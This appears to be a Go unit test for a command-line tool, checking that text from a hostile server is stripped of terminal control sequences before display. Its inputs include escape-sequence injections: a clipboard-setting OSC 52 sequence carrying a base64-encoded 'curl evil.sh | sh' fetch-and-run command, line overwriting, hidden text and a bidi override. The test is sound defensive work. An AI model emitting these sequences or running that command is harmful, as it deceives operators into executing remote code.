package cli

import (
	"strings"
	"testing"
)

// A hostile server's description or result cannot drive the operator's
// terminal: no escape, bell, C1 control or bidi override is printed as is.
func TestOneLineShowsNoControls(t *testing.T) {
	for _, in := range []string{
		"Adds numbers\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", // OSC 52: set the clipboard
		"safe\x1b[2K\x1b[1Gevil",                             // erase the line, write over it
		"shown\x1b[8mhidden",                                 // concealed text
		"csi\u009b31m c1",                                    // 8-bit CSI
		"abc\u202eevil\u202c",                                // right-to-left override
		"del\x7f",
	} {
		out := oneLine(in, 200)
		if strings.ContainsFunc(out, unsafeRune) {
			t.Errorf("oneLine(%q) = %q: a control reaches the terminal", in, out)
		}
		if !strings.Contains(out, "\ufffd") {
			t.Errorf("oneLine(%q) = %q: the control is not shown", in, out)
		}
	}
	if got := oneLine("plain  text\n with\tspaces é", 200); got != "plain text with spaces é" {
		t.Errorf("plain text changed: %q", got)
	}
}
